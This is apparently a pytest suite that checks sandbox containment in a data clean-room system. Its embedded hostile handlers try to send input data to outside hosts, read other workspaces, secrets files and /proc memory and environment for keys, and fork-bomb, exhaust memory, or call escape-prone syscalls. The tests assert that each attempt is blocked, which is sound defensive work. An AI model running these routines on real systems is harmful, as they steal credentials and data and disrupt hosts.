"""Hostile clean room functions through the whole stack (manager, Controller, Attester,
Workers as processes; the SDK as the users): each is contained. The run fails or is
cut off with a clear status in the signed receipt, the compute server keeps serving
other clean rooms, and no plaintext turns up anywhere outside the Workers."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from cleanroom.insecure.localstack import LocalStack
from tests.e2e.conftest import User
from tests.reliability import flow
from tests.reliability.report import record


def record_case(case: str, receipt: dict[str, Any], seconds: float, outcome: str) -> None:
    record(
        "hostile functions",
        case,
        {"receipt status": receipt["status"], "run s": round(seconds, 2), "outcome": outcome},
    )


def contained(stack: LocalStack, markers: tuple[str, str]) -> None:
    """The compute server is healthy and no plaintext is anywhere outside a Worker."""
    health = httpx.get(f"{stack.compute_url}/v1/health", timeout=10).json()
    assert health["status"] == "ok", health
    assert flow.leaks(markers, stack) == []


@pytest.fixture(scope="module")
def bystander(alice: User, bob: User, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A clean room deployed and fed before the hostile ones, run after them all."""
    tmp = tmp_path_factory.mktemp("bystander")
    flow.deploy(alice, bob, tmp, "bystander")
    flow.feed(alice, bob, tmp, "bystander")
    return "bystander"


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):
                connection, _ = server.accept()
                received.append(connection.recv(1024))
                connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def test_network_connections_go_nowhere(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path,
    listener: tuple[int, list[bytes]],
) -> None:  # fmt: skip
    port, received = listener
    targets = [("127.0.0.1", port)] + [
        (urlsplit(url).hostname, urlsplit(url).port)
        for url in (stack.manager_url, stack.compute_url)
    ]
    handler = f"""
import json, pathlib, socket

def run():
    data = pathlib.Path("inputs/input_1/emails.csv").read_bytes()
    verdicts = {{}}
    for host, port in {targets!r} + [("example.com", 80), ("1.1.1.1", 53)]:
        try:
            socket.create_connection((host, port), timeout=2).sendall(data)
            verdicts[f"{{host}}:{{port}}"] = "sent"
        except OSError as error:
            verdicts[f"{{host}}:{{port}}"] = f"blocked: {{type(error).__name__}}"
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(data, ("127.0.0.1", {port}))
        verdicts["udp"] = "sent to a loopback that is not the host's"
    except OSError as error:
        verdicts["udp"] = f"blocked: {{type(error).__name__}}"
    pathlib.Path("outputs/output_1/verdicts.json").write_text(json.dumps(verdicts))
"""
    flow.deploy(alice, bob, tmp_path, "hostile-network", handler)
    markers = flow.feed(alice, bob, tmp_path, "hostile-network")
    state, receipt, seconds = flow.run(alice, "hostile-network")
    verdicts = json.loads(
        flow.read(alice, "hostile-network", "output_1", tmp_path)["verdicts.json"]
    )
    assert state == "done" and receipt["status"] == "succeeded"
    assert all(v != "sent" for v in verdicts.values()), verdicts
    assert received == []  # nothing reached the host's loopback
    contained(stack, markers)
    record_case("network connection", receipt, seconds, f"all refused: {sorted(verdicts)}")


SNOOP = """
import json, os, pathlib

def readable(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(1 << 16)
    except OSError:
        return None

def run():
    params = json.loads(pathlib.Path("parameters.json").read_text())
    found = {}
    candidates = [params["compute_dir"], params["compute_dir"] + "/simulated-platform/secrets.json",
                  params["compute_dir"] + "/rooms/" + params["victim"] + "/sealed"]
    for top in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            candidates += [os.path.join(top, name) for name in os.listdir(top)]
        except OSError:
            pass
    own = os.getcwd()
    for root in candidates:
        if root == own:
            continue  # its own workspace: its own inputs
        for directory, _dirs, files in os.walk(root):
            for name in files:
                data = readable(os.path.join(directory, name))
                if data is not None:
                    found[os.path.join(directory, name)] = len(data)
        data = readable(root)
        if data is not None:
            found[root] = len(data)
    # Other processes: the Workers hold their keys in memory. (Pid 1 is the sandbox's
    # own init, bubblewrap, as its own uid, with an empty environment.)
    for pid in os.listdir("/proc"):
        if pid.isdigit() and pid not in (str(os.getpid()), "1"):
            for part in ("environ", "mem", "maps", "fd/0", "root/etc/hostname", "cwd/spec.json"):
                data = readable(f"/proc/{pid}/{part}")
                if data:
                    found[f"/proc/{pid}/{part}"] = len(data)
    pathlib.Path("outputs/output_1/found.json").write_text(json.dumps(found, sort_keys=True))
"""

SLEEPER = """
import pathlib, time

def run():
    assert pathlib.Path("inputs/input_1/emails.csv").read_text()
    time.sleep(8)  # holds plaintext inputs in its scratch workspace meanwhile
"""


def test_other_rooms_workspaces_and_worker_keys_are_unreadable(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path
) -> None:
    flow.deploy(alice, bob, tmp_path, "victim", SLEEPER)
    victim_markers = flow.feed(alice, bob, tmp_path, "victim")
    parameters = {"compute_dir": str(stack.compute_dir), "victim": "acme.victim"}
    flow.deploy(alice, bob, tmp_path, "hostile-snoop", SNOOP, parameters=parameters)
    markers = flow.feed(alice, bob, tmp_path, "hostile-snoop")
    victim = threading.Thread(target=flow.run, args=(alice, "victim"))
    victim.start()
    time.sleep(1.5)  # the victim's run has unpacked its inputs into its workspace
    state, receipt, seconds = flow.run(alice, "hostile-snoop")
    victim.join()
    found = json.loads(flow.read(alice, "hostile-snoop", "output_1", tmp_path)["found.json"])
    assert state == "done" and receipt["status"] == "succeeded"
    # Outside its own workspace nothing is readable (its /tmp holds only that workspace).
    assert found == {}, found
    contained(stack, (*markers, *victim_markers))
    record_case(
        "read other room / Worker keys / sealed store", receipt, seconds,
        "nothing readable (other workspace, compute dir, secrets.json, sealed, /proc/*/mem)",
    )  # fmt: skip


def test_writes_outside_outputs_do_not_survive(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path
) -> None:
    handler = f"""
import json, os, pathlib

def run():
    data = pathlib.Path("inputs/input_1/emails.csv").read_bytes()
    written = {{}}
    for target in ("/tmp/cleanroom-escape", "/var/tmp/cleanroom-escape",
                   "/dev/shm/cleanroom-escape", "escape.txt", "inputs/escape",
                   "inputs/input_1/emails.csv", "function/escape", "outputs/escape",
                   "{stack.compute_dir}/escape", "/etc/cleanroom-escape"):
        try:
            pathlib.Path(target).write_bytes(data)
            written[target] = "written"
        except OSError as error:
            written[target] = type(error).__name__
    pathlib.Path("outputs/output_1/written.json").write_text(json.dumps(written))
"""
    flow.deploy(alice, bob, tmp_path, "hostile-write", handler)
    markers = flow.feed(alice, bob, tmp_path, "hostile-write")
    state, receipt, seconds = flow.run(alice, "hostile-write")
    files = flow.read(alice, "hostile-write", "output_1", tmp_path)
    written = json.loads(files["written.json"])
    assert state == "done" and receipt["status"] == "succeeded"
    assert sorted(files) == ["written.json"]
    # Only its private tmpfs mounts took writes, and they were gone with the run.
    private = {"/tmp/cleanroom-escape", "/var/tmp/cleanroom-escape", "/dev/shm/cleanroom-escape"}
    assert {t for t, v in written.items() if v == "written"} <= private, written
    for target in private:
        assert not Path(target).exists()
    contained(stack, markers)
    record_case(
        "write outside outputs/", receipt, seconds,
        "refused everywhere; /tmp, /var/tmp, /dev/shm are private tmpfs gone after the run",
    )  # fmt: skip


def test_fork_bomb_is_contained(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path
) -> None:
    handler = """
import os, pathlib, time

def run():
    children = 0
    while True:
        try:
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
            children += 1
        except OSError:
            pathlib.Path("outputs/output_1/children.txt").write_text(str(children))
            time.sleep(120)  # keep them all alive until the timeout
"""
    flow.deploy(alice, bob, tmp_path, "hostile-fork", handler, timeout_s=5, processes=32)
    markers = flow.feed(alice, bob, tmp_path, "hostile-fork")
    uid = flow.room_record(stack, "hostile-fork")["sandbox_uid"]
    state, receipt, seconds = flow.run(alice, "hostile-fork")
    children = int(flow.read(alice, "hostile-fork", "output_1", tmp_path)["children.txt"])
    # Its tasks were capped (pids), and the timeout then ended it: the status names that.
    assert state == "done" and receipt["status"] == "timeout"
    assert children < 32
    assert flow.sandbox_processes(uid) == []  # the whole group died with the run
    contained(stack, markers)
    record_case("fork bomb", receipt, seconds, f"stopped at {children} tasks, all killed")


def test_memory_past_the_limit(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path
) -> None:
    handler = """
import pathlib

def run():
    hoard = [bytearray(64 << 20) for _ in range(64)]  # 4 GiB against a 128 MiB limit
    pathlib.Path("outputs/output_1/allocated.txt").write_text(str(len(hoard)))
"""
    flow.deploy(alice, bob, tmp_path, "hostile-memory", handler, memory_mib=128)
    markers = flow.feed(alice, bob, tmp_path, "hostile-memory")
    state, receipt, seconds = flow.run(alice, "hostile-memory")
    assert state == "done" and receipt["status"] == "memory"
    assert flow.read(alice, "hostile-memory", "output_1", tmp_path) == {}
    contained(stack, markers)
    record_case("memory past the limit", receipt, seconds, "killed at the run's memory limit")


def test_infinite_loop_past_the_timeout(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path
) -> None:
    handler = "def run():\n    while True:\n        pass\n"
    flow.deploy(alice, bob, tmp_path, "hostile-loop", handler, timeout_s=2)
    markers = flow.feed(alice, bob, tmp_path, "hostile-loop")
    state, receipt, seconds = flow.run(alice, "hostile-loop")
    assert state == "done" and receipt["status"] in {"timeout", "killed"}
    assert receipt["finished"] - receipt["started"] <= 4
    contained(stack, markers)
    record_case("infinite loop past the timeout", receipt, seconds, "cut off at timeout_s=2")


def test_printing_inputs_when_logs_go_nowhere(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path
) -> None:
    handler = """
import os, pathlib, sys

def run():
    for input_id in ("input_1", "input_2"):
        data = pathlib.Path("inputs", input_id, "emails.csv").read_text()
        print(data)
        print(data, file=sys.stderr)
        os.write(1, data.encode())
        os.write(2, data.encode())
    raise RuntimeError(data)  # a traceback with the data in it, too
"""
    flow.deploy(alice, bob, tmp_path, "hostile-print", handler, logs=False)
    markers = flow.feed(alice, bob, tmp_path, "hostile-print")
    state, receipt, seconds = flow.run(alice, "hostile-print")
    assert state == "done" and receipt["status"] == "failed"
    for user, output in ((alice, "output_1"), (bob, "output_2")):
        assert flow.read(user, "hostile-print", output, tmp_path) == {}
    state_detail = alice.client.state("hostile-print")
    assert all(m not in json.dumps(state_detail) for m in markers)
    contained(stack, markers)  # not in worker.log, compute.log, manager.log, attester.log
    record_case(
        "print inputs, logs nowhere", receipt, seconds, "stdout/stderr discarded; no log has it"
    )


def test_huge_outputs(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path
) -> None:
    # Sparse files use one page of the run's 1 GiB tmpfs but read at their full size.
    one_file = """
def run():
    with open("outputs/output_1/huge.bin", "wb") as handle:
        handle.seek(2 << 30)  # past the 1 GiB disk limit, without using the disk
        handle.write(b"x")
"""
    many = """
def run():
    for name in ("a", "b"):  # each under the limit, together over it
        with open(f"outputs/output_1/{name}.bin", "wb") as handle:
            handle.seek(600 << 20)
            handle.write(b"x")
"""
    outcomes = []
    for name, handler in (("hostile-huge-file", one_file), ("hostile-huge-total", many)):
        flow.deploy(alice, bob, tmp_path, name, handler)
        markers = flow.feed(alice, bob, tmp_path, name)
        state, receipt, seconds = flow.run(alice, name)
        assert state == "done" and receipt["status"] == "disk", receipt
        files = flow.read(alice, name, "output_1", tmp_path)
        assert files == {}  # none of it: a part would be the Worker's choice
        outcomes.append((name, receipt, seconds, sum(len(d) for d in files.values())))
        contained(stack, markers)
    for name, receipt, seconds, released in outcomes:
        record_case(
            "huge output: " + name.removeprefix("hostile-huge-"), receipt, seconds,
            f"withheld past the 1 GiB disk limit; {released} bytes released",
        )  # fmt: skip


KERNEL = """
import ctypes, errno, json, os, pathlib

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def outcome(number, *args):
    result = libc.syscall(ctypes.c_long(number), *args)
    if result == 0 and number == 435:
        os._exit(0)  # a child in a user namespace of its own
    return "succeeded" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")

def run():
    clone = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)  # CLONE_NEWUSER, SIGCHLD
    tried = {
        "a user namespace (clone3)": outcome(435, ctypes.byref(clone), 88),
        "a user namespace (unshare)": outcome(272, 0x10000000),
        "io_uring": outcome(425, 8, ctypes.create_string_buffer(120)),
        "the session keyring": outcome(250, 0, -3, 0),
        "ptrace": outcome(101, 0, 0, 0, 0),
        "a vsock socket (no namespace confines it)": outcome(41, 40, 1, 0),
        "a netlink socket": outcome(41, 16, 3, 0),
    }
    pathlib.Path("outputs/output_1/tried.json").write_text(json.dumps(tried))
    top = "outputs/output_1"
    os.chdir(top)
    for _ in range(1500):  # deeper than the Worker's walk goes
        os.mkdir("d")
        os.chdir("d")
    pathlib.Path("bottom.txt").write_text("left out")
"""


def test_the_kernel_is_out_of_reach_and_a_deep_tree_is_no_crash(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path
) -> None:
    flow.deploy(alice, bob, tmp_path, "hostile-kernel", KERNEL)
    markers = flow.feed(alice, bob, tmp_path, "hostile-kernel")
    state, receipt, seconds = flow.run(alice, "hostile-kernel")
    assert state == "done" and receipt["status"] == "succeeded", receipt
    files = flow.read(alice, "hostile-kernel", "output_1", tmp_path)
    assert sorted(files) == ["tried.json"]  # the file 1,500 directories down: left out
    tried = json.loads(files["tried.json"])
    assert "succeeded" not in tried.values(), tried
    contained(stack, markers)
    record_case(
        "kernel surface, 1,500 nested output directories", receipt, seconds,
        f"refused: {', '.join(f'{call} ({verdict})' for call, verdict in tried.items())}; "
        "the deep file left out",
    )  # fmt: skip


def test_the_compute_server_kept_serving_other_rooms(
    stack: LocalStack, alice: User, bob: User, bystander: str, tmp_path: Path
) -> None:
    # Deployed and fed before every hostile run above, run after them all.
    state, receipt, seconds = flow.run(alice, bystander)
    assert state == "done" and receipt["status"] == "succeeded"
    assert flow.overlap(bob, bystander, tmp_path, "output_2") == {"overlap": 1}
    # And a clean room deployed now works too.
    flow.deploy(alice, bob, tmp_path, "after-hostile")
    flow.feed(alice, bob, tmp_path, "after-hostile")
    assert flow.run(alice, "after-hostile")[0] == "done"
    assert flow.overlap(alice, "after-hostile", tmp_path, "output_1") == {"overlap": 1}
    record_case("other rooms afterwards", receipt, seconds, "bystander and a new room succeed")
